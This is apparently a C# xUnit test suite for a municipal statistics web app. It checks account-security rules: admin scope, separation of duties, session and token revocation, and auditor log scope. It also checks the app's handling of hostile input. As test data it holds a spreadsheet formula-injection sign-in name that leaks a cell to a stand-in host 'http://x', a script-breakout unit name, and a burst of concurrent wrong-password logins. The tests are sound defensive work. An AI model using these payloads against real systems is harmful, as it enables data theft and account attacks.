using System.Net;
using Microsoft.Extensions.DependencyInjection;
using Yardstick.Data;
using Yardstick.Data.Access;
using Yardstick.Data.Values;
using Yardstick.Testing;

namespace Yardstick.Web.Tests;

/// <summary>
/// What a tester broke, tried again: a county security admin taking over accounts outside its county or raising itself;
/// sessions and tokens that outlived sign-out, disabling, lockout and password resets; tokens that never expired; an
/// auditor reading the whole city's log; sign-in names of any length written to the log. Each test makes its own accounts.
/// </summary>
public abstract class AccountSecurityTests(WebApp app)
{
    private async Task<string> AccountAsync(string name, string role, string scope)
    {
        await using var services = app.Services.CreateAsyncScope();
        var db = services.ServiceProvider.GetRequiredService<YardstickDb>();
        (await UserAccounts.CreateAsync(services.ServiceProvider, db, name, role, scope, WebApp.Password, mustChangePassword: false, DateTimeOffset.UtcNow))
            .ShouldBeEmpty();
        return services.ServiceProvider.GetRequiredService<AccessDb>().Users.Single(u => u.UserName == name).Id;
    }

    private static Task<HttpResponseMessage> AdminPostAsync(HttpClient admin, string handler, Dictionary<string, string> fields) =>
        WebApp.PostFormAsync(admin, "/Admin/Users", "/Admin/Users?handler=" + handler, fields);

    [Fact]
    public async Task A_county_security_admin_manages_only_accounts_inside_its_county_and_never_raises_itself()
    {
        var self = await AccountAsync("sec_kq", Roles.Security, WebApp.Kerqin);
        var cityPlanner = await AccountAsync("planner_city_2", Roles.Planner, WebApp.City);
        var township = await AccountAsync("rep_dalin_2", Roles.Reporter, WebApp.Dalin);
        using var admin = await app.SignInAsync("sec_kq");

        var page = await admin.GetStringAsync("/Admin/Users");
        page.ShouldContain("rep_dalin_2");
        page.ShouldNotContain("planner_city_2");
        page.ShouldNotContain("secadmin");

        // A city account: no reset, no unlock, no disabling, no new role.
        foreach (var (handler, extra) in new (string, Dictionary<string, string>)[]
        {
            ("Reset", []), ("Unlock", []), ("Disable", new() { ["disable"] = "true" }), ("RevokeTokens", []),
            ("Grant", new() { ["role"] = Roles.Reporter, ["orgunit"] = WebApp.Dalin }),
        })
        {
            extra["id"] = cityPlanner;
            var refused = await AdminPostAsync(admin, handler, extra);
            refused.StatusCode.ShouldBe(HttpStatusCode.Forbidden, handler);
            (await refused.Content.ReadAsStringAsync()).ShouldContain("该账号不在您的机构范围内");
        }
        using (await app.SignInAsync("planner_city_2"))
        {
            // Still the old password: the reset never happened.
        }

        // Itself: no new role, no reset.
        var raise = await AdminPostAsync(admin, "Grant", new() { ["id"] = self, ["role"] = Roles.Admin, ["orgunit"] = WebApp.Kerqin });
        raise.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        (await raise.Content.ReadAsStringAsync()).ShouldContain("不能修改自己的账号");
        (await AdminPostAsync(admin, "Reset", new() { ["id"] = self })).StatusCode.ShouldBe(HttpStatusCode.Forbidden);

        // An account inside: not moved out of the county, not made a peer security admin; a township role is fine.
        (await AdminPostAsync(admin, "Grant", new() { ["id"] = township, ["role"] = Roles.Auditor, ["orgunit"] = WebApp.City }))
            .StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        (await AdminPostAsync(admin, "Grant", new() { ["id"] = township, ["role"] = Roles.Security, ["orgunit"] = WebApp.Kerqin }))
            .StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        (await AdminPostAsync(admin, "Create", new() { ["name"] = "new_city_admin", ["role"] = Roles.Admin, ["orgunit"] = WebApp.City }))
            .StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        var granted = await AdminPostAsync(admin, "Grant", new() { ["id"] = township, ["role"] = Roles.Viewer, ["orgunit"] = WebApp.Qianjia });
        granted.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await granted.Content.ReadAsStringAsync()).ShouldContain("已更新 rep_dalin_2");
    }

    [Fact]
    public async Task Issue_24_separated_accounts_of_its_own_level_are_out_of_a_security_admins_reach()
    {
        await AccountAsync("sec_kq24", Roles.Security, WebApp.Kerqin);
        var auditor = await AccountAsync("aud_kq24", Roles.Auditor, WebApp.Kerqin);
        var peer = await AccountAsync("sec_kq24_peer", Roles.Security, WebApp.Kerqin);
        var planner = await AccountAsync("planner_kq24", Roles.Planner, WebApp.Kerqin);
        using var county = await app.SignInAsync("sec_kq24");

        foreach (var (target, handler, extra) in new (string, string, Dictionary<string, string>)[]
        {
            (auditor, "Reset", []), (auditor, "Disable", new() { ["disable"] = "true" }), (auditor, "Unlock", []),
            (auditor, "Grant", new() { ["role"] = Roles.Viewer, ["orgunit"] = WebApp.Kerqin }),
            (peer, "Reset", []), (peer, "Disable", new() { ["disable"] = "true" }),
            (planner, "Grant", new() { ["role"] = Roles.Admin, ["orgunit"] = WebApp.Kerqin }),
            (planner, "Grant", new() { ["role"] = Roles.Auditor, ["orgunit"] = WebApp.Kerqin }),
        })
        {
            extra["id"] = target;
            var refused = await AdminPostAsync(county, handler, extra);
            refused.StatusCode.ShouldBe(HttpStatusCode.Forbidden, handler);
            var page = await refused.Content.ReadAsStringAsync();
            page.ShouldContain("三员分立", customMessage: handler);
            page.ShouldNotContain("新初始密码", customMessage: handler);
        }
        foreach (var role in new[] { Roles.Admin, Roles.Auditor, Roles.Security })
        {
            var created = await AdminPostAsync(county, "Create", new() { ["name"] = "new_kq24_" + role, ["role"] = role, ["orgunit"] = WebApp.Kerqin });
            created.StatusCode.ShouldBe(HttpStatusCode.Forbidden, role);
        }
        await using (var scope = app.Services.CreateAsyncScope())
        {
            scope.ServiceProvider.GetRequiredService<AccessDb>().Users.Count(u => u.UserName!.StartsWith("new_kq24_")).ShouldBe(0);
        }
        using (await app.SignInAsync("aud_kq24"))
        {
            // Still the old password, still enabled.
        }
        using (await app.SignInAsync("sec_kq24_peer"))
        {
        }

        // Strictly above: the city's security admin manages the county's auditor.
        using var city = await app.SignInAsync("secadmin");
        var reset = await AdminPostAsync(city, "Reset", new() { ["id"] = auditor });
        reset.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await reset.Content.ReadAsStringAsync()).ShouldContain("aud_kq24 的新初始密码");
        (await AdminPostAsync(city, "Disable", new() { ["id"] = auditor, ["disable"] = "true" })).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await AdminPostAsync(city, "Grant", new() { ["id"] = planner, ["role"] = Roles.Auditor, ["orgunit"] = WebApp.Kerqin })).StatusCode.ShouldBe(HttpStatusCode.OK);
    }

    [Fact]
    public async Task Issue_25_two_factor_setup_shows_the_otpauth_uri_as_a_qr_code()
    {
        using var planner = await app.SignInAsync("planner");

        var page = await planner.GetStringAsync("/Account/TwoFactor");

        var qr = page.IndexOf("id=\"authenticator-qr\"", StringComparison.Ordinal);
        qr.ShouldBeGreaterThan(0);
        page.IndexOf("<svg ", qr, StringComparison.Ordinal).ShouldBeGreaterThan(qr);
        page.ShouldContain("<path d=\"M");
        page.ShouldContain("密钥: <code id=\"authenticator-key\">");
        var link = page.IndexOf("<summary>手动添加链接</summary>", StringComparison.Ordinal);
        link.ShouldBeGreaterThan(0, "the otpauth:// link is kept only inside a collapsed <details>");
        page.IndexOf("otpauth://", StringComparison.Ordinal).ShouldBeGreaterThan(link);
    }

    [Fact]
    public async Task Signing_out_ends_the_session_a_saved_cookie_included()
    {
        await AccountAsync("leaver", Roles.Viewer, WebApp.City);
        var jar = new CookieContainer();
        using var browser = await app.SignInAsync("leaver", jar: jar);
        (await browser.GetAsync("/")).StatusCode.ShouldBe(HttpStatusCode.OK);
        var saved = jar.GetCookieHeader(app.BaseAddress);

        (await WebApp.PostFormAsync(browser, "/", "/Account/Logout", [])).StatusCode.ShouldBe(HttpStatusCode.Redirect);

        using var replay = app.Client();
        replay.DefaultRequestHeaders.Add("Cookie", saved);
        var answer = await replay.GetAsync("/");
        answer.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        answer.Headers.Location!.ToString().ShouldContain("/Account/Login");
    }

    [Fact]
    public async Task A_renewal_racing_a_sign_out_does_not_bring_the_session_back()
    {
        var id = await AccountAsync("racer", Roles.Viewer, WebApp.City);
        var jar = new CookieContainer();
        using var browser = await app.SignInAsync("racer", jar: jar);
        var saved = jar.GetCookieHeader(app.BaseAddress);
        UserSession session;
        await using (var scope = app.Services.CreateAsyncScope())
        {
            session = scope.ServiceProvider.GetRequiredService<AccessDb>().Sessions.AsEnumerable().Single(x => x.UserId == id);
        }

        (await WebApp.PostFormAsync(browser, "/", "/Account/Logout", [])).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        // Another tab's request renews the ticket it read just before the sign-out.
        await app.Services.GetRequiredService<Yardstick.Web.Access.SessionStore>()
            .RenewAsync(session.SessionKey, Microsoft.AspNetCore.Authentication.TicketSerializer.Default.Deserialize(session.Ticket)!);

        using var replay = app.Client();
        replay.DefaultRequestHeaders.Add("Cookie", saved);
        (await replay.GetAsync("/")).Headers.Location!.ToString().ShouldContain("/Account/Login");
    }

    [Fact]
    public async Task Issue_24_wrong_passwords_sent_at_once_lock_the_account_as_one_at_a_time_do()
    {
        await AccountAsync("to_lock_at_once", Roles.Reporter, WebApp.Dalin);
        var forms = await Task.WhenAll(Enumerable.Range(0, 2 * IdentityRules.MaxFailedAttempts).Select(async _ =>
        {
            var client = app.Client();
            var page = await client.GetStringAsync("/Account/Login");
            return (client, new Dictionary<string, string>
            {
                ["userName"] = "to_lock_at_once",
                ["password"] = "wrong-Pass-1",
                ["__RequestVerificationToken"] = AntiForgeryToken.From(page),
            });
        }));

        await Task.WhenAll(forms.Select(f => f.client.PostAsync("/Account/Login", new FormUrlEncodedContent(f.Item2))));

        var right = await WebApp.PostFormAsync(app.Client(), "/Account/Login", "/Account/Login", new() { ["userName"] = "to_lock_at_once", ["password"] = WebApp.Password });
        right.StatusCode.ShouldNotBe(HttpStatusCode.Redirect, "the right password signed in after 10 wrong ones sent at once");
        (await right.Content.ReadAsStringAsync()).ShouldContain("锁定");
    }

    [Fact]
    public async Task Disabling_a_resetting_and_a_lockout_end_cookies_and_tokens_at_once()
    {
        using var secadmin = await app.SignInAsync("secadmin");
        foreach (var (name, act) in new (string, Func<string, Task>)[]
        {
            ("to_disable", async id => (await AdminPostAsync(secadmin, "Disable", new() { ["id"] = id, ["disable"] = "true" })).StatusCode.ShouldBe(HttpStatusCode.OK)),
            ("to_reset", async id => (await AdminPostAsync(secadmin, "Reset", new() { ["id"] = id })).StatusCode.ShouldBe(HttpStatusCode.OK)),
            ("to_lock", async _ =>
            {
                for (var i = 0; i < IdentityRules.MaxFailedAttempts; i++)
                {
                    await WebApp.PostFormAsync(app.Client(), "/Account/Login", "/Account/Login", new() { ["userName"] = "to_lock", ["password"] = "wrong-Pass-1" });
                }
            }),
        })
        {
            var id = await AccountAsync(name, Roles.Reporter, WebApp.Dalin);
            using var browser = await app.SignInAsync(name);
            using var api = app.TokenClient(await app.TokenAsync(name));
            (await browser.GetAsync("/Entry")).StatusCode.ShouldBe(HttpStatusCode.OK, name);
            (await api.GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.OK, name);

            await act(id);

            (await browser.GetAsync("/Entry")).Headers.Location!.ToString().ShouldContain("/Account/Login", customMessage: name);
            (await api.GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.Unauthorized, name);
        }
        var refused = await WebApp.PostFormAsync(app.Client(), "/Account/Login", "/Account/Login", new() { ["userName"] = "to_disable", ["password"] = WebApp.Password });
        (await refused.Content.ReadAsStringAsync()).ShouldContain("账号已停用");
    }

    [Fact]
    public async Task Tokens_expire_and_are_listed_made_and_revoked_on_the_account_page()
    {
        await AccountAsync("token_holder", Roles.Viewer, WebApp.City);
        string expired;
        await using (var scope = app.Services.CreateAsyncScope())
        {
            var access = scope.ServiceProvider.GetRequiredService<AccessDb>();
            var holder = access.Users.Single(u => u.UserName == "token_holder");
            expired = await IdentityRules.CreateTokenAsync(access, holder, "old", DateTimeOffset.UtcNow.AddDays(-10), TimeSpan.FromDays(1));
        }
        (await app.TokenClient(expired).GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.Unauthorized);

        using var browser = await app.SignInAsync("token_holder");
        var made = await WebApp.PostFormAsync(browser, "/Account/TwoFactor", "/Account/TwoFactor?handler=CreateToken", new() { ["label"] = "报表脚本", ["days"] = "30" });
        var page = await made.Content.ReadAsStringAsync();
        var token = System.Text.RegularExpressions.Regex.Match(page, "<code>(ys_[^<]+)</code>").Groups[1].Value;
        token.ShouldStartWith("ys_");
        page.ShouldContain("报表脚本");
        (await app.TokenClient(token).GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.OK);

        var id = System.Text.RegularExpressions.Regex.Matches(page, "name=\"id\" value=\"(\\d+)\"").Select(m => m.Groups[1].Value).Last();
        (await WebApp.PostFormAsync(browser, "/Account/TwoFactor", "/Account/TwoFactor?handler=RevokeToken", new() { ["id"] = id })).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await app.TokenClient(token).GetAsync("/api/orgUnits")).StatusCode.ShouldBe(HttpStatusCode.Unauthorized);
    }

    [Fact]
    public async Task An_auditor_reads_only_entries_filed_under_its_own_subtree()
    {
        await AccountAsync("aud_kq", Roles.Auditor, WebApp.Kerqin);
        await AccountAsync("city_victim", Roles.Viewer, WebApp.City);
        using var secadmin = await app.SignInAsync("secadmin");
        var victim = await app.WithDbAsync(async _ =>
        {
            await using var scope = app.Services.CreateAsyncScope();
            return scope.ServiceProvider.GetRequiredService<AccessDb>().Users.Single(u => u.UserName == "city_victim").Id;
        });
        (await AdminPostAsync(secadmin, "Reset", new() { ["id"] = victim })).StatusCode.ShouldBe(HttpStatusCode.OK);
        using var kerqin = await app.SignInAsync("kerqin");
        (await WebApp.PostFormAsync(kerqin, "/Entry", "/Entry", new()
        {
            ["dataset"] = "TL14",
            ["orgunit"] = WebApp.Kerqin,
            ["period"] = "2022",
            ["v[childcare_slots]"] = "5813",
        })).StatusCode.ShouldBe(HttpStatusCode.OK);

        using var countyAuditor = await app.SignInAsync("aud_kq");
        var county = await countyAuditor.GetStringAsync("/Audit");
        county.ShouldContain("5813");
        county.ShouldNotContain("city_victim");
        (await countyAuditor.GetStringAsync("/Audit?handler=Csv")).ShouldNotContain("city_victim");

        using var cityAuditor = await app.SignInAsync("auditor");
        var city = await cityAuditor.GetStringAsync("/Audit");
        city.ShouldContain("city_victim");
        city.ShouldContain("5813");
    }

    [Fact]
    public async Task The_cookie_signing_keys_are_encrypted_in_the_database_with_a_key_held_outside_it()
    {
        using (await app.SignInAsync("viewer"))
        {
        }
        var keys = await app.WithDbAsync(async db => await db.WithConnectionAsync(async c =>
        {
            await using var command = c.CreateCommand();
            command.CommandText = "SELECT xml FROM data_protection_keys";
            var rows = new List<string>();
            await using var reader = await command.ExecuteReaderAsync();
            while (await reader.ReadAsync())
            {
                rows.Add(reader.GetString(0));
            }
            return rows;
        }, default));
        keys.ShouldNotBeEmpty();
        keys.ShouldAllBe(k => k.Contains("sm4Encrypted") && !k.Contains("<masterKey"));
        File.Exists(app.Services.GetRequiredService<Yardstick.Web.Access.KeyFile>().Path).ShouldBeTrue();
    }

    [Fact]
    public async Task A_sign_in_name_longer_than_any_account_can_have_is_refused_and_not_logged()
    {
        var name = new string('x', IdentityRules.MaxUserNameLength + 1);
        var answer = await WebApp.PostFormAsync(app.Client(), "/Account/Login", "/Account/Login", new() { ["userName"] = name, ["password"] = "whatever-1A" });
        (await answer.Content.ReadAsStringAsync()).ShouldContain("用户名或密码错误");
        (await app.WithDbAsync(db => AuditLog.ReadAsync(db))).ShouldNotContain(e => e.Key == name);
    }
}

public sealed class SqliteAccountSecurityTests(SqliteWebApp app) : AccountSecurityTests(app), IClassFixture<SqliteWebApp>;

public sealed class PostgresAccountSecurityTests(PostgresWebApp app) : AccountSecurityTests(app), IClassFixture<PostgresWebApp>;

/// <summary>Input a tester sent to break the app for others: absurd values, spreadsheet formulas in names.</summary>
public abstract class HostileInputTests(WebApp app)
{
    private static StringContent Value(string unit, string element, string value) => new(
        $$"""{"dataValues":[{"dataElement":"{{element}}","period":"2023","orgUnit":"{{unit}}","value":"{{value}}"}]}""",
        System.Text.Encoding.UTF8, "application/json");

    [Fact]
    public async Task An_absurd_value_is_refused_with_a_reason_and_the_citys_pages_keep_working()
    {
        using var kerqin = app.TokenClient(await app.TokenAsync("kerqin"));
        var refused = await kerqin.PostAsync("/api/dataValueSets", Value(WebApp.Dalin, "beds_total", "10000000000000000000"));
        refused.StatusCode.ShouldNotBe(HttpStatusCode.OK);
        (await refused.Content.ReadAsStringAsync()).ShouldContain("超出合理范围");
        var tiny = await kerqin.PostAsync("/api/dataValueSets", Value(WebApp.Dalin, "total_health_expenditure", "0.000000001"));
        (await tiny.Content.ReadAsStringAsync()).ShouldContain("小数位数超过");

        using var planner = await app.SignInAsync("planner");
        (await planner.GetAsync("/")).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await planner.GetAsync("/api/plans/TL14/evaluation?children=true")).StatusCode.ShouldBe(HttpStatusCode.OK);
    }

    [Fact]
    public async Task Malformed_requests_get_a_chinese_4xx_never_a_500()
    {
        using var planner = await app.SignInAsync("planner");
        foreach (var page in new[] { "/?year=99999", "/Indicators/Detail?code=infant_mortality_rate&year=1", "/Reports?year=5000" })
        {
            var answer = await planner.GetAsync(page);
            answer.StatusCode.ShouldBe(HttpStatusCode.BadRequest, page);
            (await answer.Content.ReadAsStringAsync()).ShouldContain("不在 1900", customMessage: page);
        }
        var api = await planner.GetAsync("/api/plans/TL14/evaluation?year=1");
        api.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        api.Content.Headers.ContentType!.MediaType.ShouldBe("application/problem+json");
        (await api.Content.ReadAsStringAsync()).ShouldContain("不在 1900");

        using var kerqin = app.TokenClient(await app.TokenAsync("kerqin"));
        async Task<HttpResponseMessage> Post(byte[] body) =>
            await kerqin.PostAsync("/api/dataValueSets", new ByteArrayContent(body) { Headers = { ContentType = new("application/json") } });
        (await Post("""[{"dataElement":"beds_total"}]"""u8.ToArray())).StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await Post([0x7B, 0x22, 0xFF, 0xFE, 0x22, 0x7D])).StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        var gb = System.Text.Encoding.GetEncoding("GB18030").GetBytes(
            $$"""{"dataValues":[{"dataElement":"beds_total","period":"2023","orgUnit":"{{WebApp.Dalin}}","value":"１２０","comment":"大林镇"}]}""");
        var decoded = await Post(gb);
        decoded.StatusCode.ShouldBe(HttpStatusCode.OK, await decoded.Content.ReadAsStringAsync());

        // The third value is the bad one, and the answer says so (not "line 1"); a 1 MB field is not echoed back whole.
        var third = await kerqin.PostAsync("/api/dataValueSets", new StringContent($$"""
            {"dataValues":[{"dataElement":"beds_total","period":"2023","orgUnit":"{{WebApp.Dalin}}","value":"1"},{"dataElement":"beds_total","period":"2022","orgUnit":"{{WebApp.Dalin}}","value":"2"},{"dataElement":"{{new string('x', 1_000_000)}}","period":"2023","orgUnit":"{{WebApp.Dalin}}","value":"3"}]}
            """, System.Text.Encoding.UTF8, "application/json"));
        var conflicts = await third.Content.ReadAsStringAsync();
        conflicts.ShouldContain("\"line\":3");
        conflicts.Length.ShouldBeLessThan(5_000);

        // Over the 30 MB limit: 413 before the body is sent (Expect: 100-continue, as browsers and curl ask for big bodies).
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/dataValueSets")
        {
            Content = new ByteArrayContent(new byte[31 * 1024 * 1024]) { Headers = { ContentType = new("application/json") } },
        };
        request.Headers.ExpectContinue = true;
        var huge = await kerqin.SendAsync(request);
        huge.StatusCode.ShouldBe(HttpStatusCode.RequestEntityTooLarge);
        (await huge.Content.ReadAsStringAsync()).ShouldContain("过大");
    }

    [Fact]
    public async Task A_unit_name_cannot_end_the_script_block_its_chart_data_sits_in()
    {
        var added = await app.WithDbAsync(db => new Yardstick.Data.Interchange.Importer(db, TimeProvider.System).ImportAsync(
            [new Yardstick.Data.Interchange.SourceTable("units.csv", Yardstick.Data.Interchange.InterchangeKind.OrgUnits,
                [new Yardstick.Data.Interchange.SourceRow(2, new Dictionary<string, string> { ["code"] = "150502199", ["name"] = "<!--<script>\u0001村", ["parent"] = WebApp.Kerqin, ["level"] = "村" })])],
            "test", "units"));
        added.Succeeded.ShouldBeTrue(string.Join("; ", added.Issues));
        using var planner = await app.SignInAsync("planner");
        var page = await planner.GetStringAsync($"/Indicators/Detail?code=infant_mortality_rate&orgunit={WebApp.Kerqin}&year=2023");
        page.ShouldNotContain("<!--<script>");
        (await planner.GetAsync($"/Reports?handler=Scorecard&orgunit={WebApp.Kerqin}&year=2023")).StatusCode.ShouldBe(HttpStatusCode.OK);
    }

    [Fact]
    public async Task A_writer_that_waits_too_long_gets_503_with_retry_after_not_500()
    {
        using var kerqin = app.TokenClient(await app.TokenAsync("kerqin"));
        await using var holder = await HoldWriterLockAsync();
        var clock = System.Diagnostics.Stopwatch.StartNew();
        var answer = await kerqin.PostAsync("/api/dataValueSets", Value(WebApp.Dalin, "beds_total", "77"));
        answer.StatusCode.ShouldBe(HttpStatusCode.ServiceUnavailable, await answer.Content.ReadAsStringAsync());
        answer.Headers.RetryAfter.ShouldNotBeNull();
        (await answer.Content.ReadAsStringAsync()).ShouldContain("系统繁忙");
        clock.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(30));
    }

    /// <summary>Another writer holding the store's write lock: a write transaction on SQLite, the writers' advisory lock on PostgreSQL.</summary>
    private async Task<IAsyncDisposable> HoldWriterLockAsync()
    {
        System.Data.Common.DbConnection connection = app.Provider == "Sqlite"
            ? new Microsoft.Data.Sqlite.SqliteConnection($"Data Source={app.Connection};Pooling=False")
            : new Npgsql.NpgsqlConnection(app.Connection + ";Pooling=false");
        await connection.OpenAsync();
        await using var command = connection.CreateCommand();
        command.CommandText = app.Provider == "Sqlite" ? "BEGIN IMMEDIATE" : "SELECT pg_advisory_lock(7310001)";
        await command.ExecuteNonQueryAsync();
        return new LockHolder(connection, app.Provider == "Sqlite" ? "ROLLBACK" : "SELECT pg_advisory_unlock(7310001)");
    }

    private sealed class LockHolder(System.Data.Common.DbConnection connection, string release) : IAsyncDisposable
    {
        public async ValueTask DisposeAsync()
        {
            await using (var command = connection.CreateCommand())
            {
                command.CommandText = release;
                await command.ExecuteNonQueryAsync();
            }
            await connection.DisposeAsync();
        }
    }

    [Fact]
    public async Task A_sign_in_name_written_as_a_formula_is_text_in_the_auditors_csv()
    {
        const string formula = "=HYPERLINK(\"http://x/?leak=\"&B2,\"点我\")";
        await WebApp.PostFormAsync(app.Client(), "/Account/Login", "/Account/Login", new() { ["userName"] = formula, ["password"] = "whatever-1A" });
        using var auditor = await app.SignInAsync("auditor");
        var csv = await auditor.GetStringAsync("/Audit?handler=Csv");
        csv.ShouldContain("'=HYPERLINK");
        csv.ShouldNotContain(",=HYPERLINK");
        csv.ShouldNotContain(",\"=HYPERLINK");
    }
}

public sealed class SqliteHostileInputTests(SqliteWebApp app) : HostileInputTests(app), IClassFixture<SqliteWebApp>;

public sealed class PostgresHostileInputTests(PostgresWebApp app) : HostileInputTests(app), IClassFixture<PostgresWebApp>;
